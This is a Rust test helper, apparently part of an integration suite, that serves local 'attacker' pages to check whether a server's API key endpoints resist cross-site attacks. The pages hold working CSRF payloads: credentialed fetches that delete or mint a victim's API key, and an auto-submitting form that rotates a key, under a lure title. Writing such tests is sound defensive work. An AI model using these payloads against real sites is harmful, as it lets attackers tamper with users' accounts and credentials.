//! The attacker: a site of its own (a tiny axum server on another loopback port)
//! whose pages try to use the victim's browser session against the management
//! endpoints.
//!
//! - `GET /fetch` runs two `fetch`es with the victim's credentials: a `DELETE` of the
//!   victim's key (a non-simple method, so the browser asks the victim's permission
//!   first with a CORS preflight), and a `no-cors` `POST` minting a key (a "simple"
//!   request, sent without asking). It reports what it could observe to `/report`.
//! - `GET /form` auto-submits a classic form `POST` (empty body) to the one-active
//!   key's rotate endpoint: a top-level navigation, which would replace the victim's
//!   key with no grace period if the server obeyed it.

use std::{
    sync::{Arc, Mutex},
    time::Duration,
};

use axum::{
    response::Html,
    routing::{get, post},
    Json, Router,
};
use serde_json::Value;

pub struct Attacker {
    pub port: u16,
    reports: Arc<Mutex<Vec<Value>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl Attacker {
    /// Serves the attack pages against `victim` (an origin) and its key `key_id`.
    pub async fn start(victim: &str, key_id: &str) -> Attacker {
        let reports = Arc::new(Mutex::new(Vec::new()));
        let sink = reports.clone();
        let fetch_page = fetch_page(victim, key_id);
        let form_page = form_page(victim);
        let app = Router::new()
            .route("/fetch", get(move || async move { Html(fetch_page) }))
            .route("/form", get(move || async move { Html(form_page) }))
            .route(
                "/report",
                post(move |Json(report): Json<Value>| async move {
                    sink.lock().unwrap().push(report);
                }),
            );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind the attacker");
        let port = listener.local_addr().unwrap().port();
        let task = tokio::spawn(async move {
            axum::serve(listener, app).await.expect("attacker server");
        });
        Attacker {
            port,
            reports,
            task,
        }
    }

    /// Waits for the next report of the `/fetch` page (the n-th, counting from 1):
    /// per attempt, what the page could see.
    pub async fn report(&self, n: usize) -> Vec<Value> {
        for _ in 0..200 {
            if let Some(report) = self.reports.lock().unwrap().get(n - 1) {
                return report.as_array().expect("a list of attempts").clone();
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("the attack page sent no report #{n} within 10 s");
    }
}

/// An inline script is fine here: this is the attacker's own page.
fn fetch_page(victim: &str, key_id: &str) -> String {
    let victim = serde_json::to_string(victim).unwrap();
    let key_id = serde_json::to_string(key_id).unwrap();
    format!(
        r#"<!doctype html>
<title>A prize for you</title>
<p id="status">working…</p>
<script>
const victim = {victim};
const keyId = {key_id};
async function attempt(name, url, init) {{
  try {{
    const r = await fetch(url, init);
    const body = r.type === "opaque" ? null : await r.text();
    return {{ name, outcome: "answered", type: r.type, status: r.status, body }};
  }} catch (e) {{
    return {{ name, outcome: "failed", error: String(e) }};
  }}
}}
(async () => {{
  const results = [];
  results.push(await attempt("delete", victim + "/api/user/keys/" + keyId,
    {{ method: "DELETE", credentials: "include" }}));
  results.push(await attempt("create", victim + "/api/user/keys",
    {{ method: "POST", mode: "no-cors", credentials: "include",
      headers: {{ "content-type": "text/plain" }},
      body: JSON.stringify({{ name: "planted by the attacker" }}) }}));
  await fetch("/report", {{ method: "POST", headers: {{ "content-type": "application/json" }},
    body: JSON.stringify(results) }});
  document.getElementById("status").textContent = JSON.stringify(results, null, 1);
}})();
</script>
"#
    )
}

fn form_page(victim: &str) -> String {
    format!(
        r#"<!doctype html>
<title>A prize for you</title>
<form id="rotate" method="post" action="{victim}/api/v1/partners/api-key/rotate"></form>
<script>document.getElementById("rotate").submit();</script>
"#
    )
}
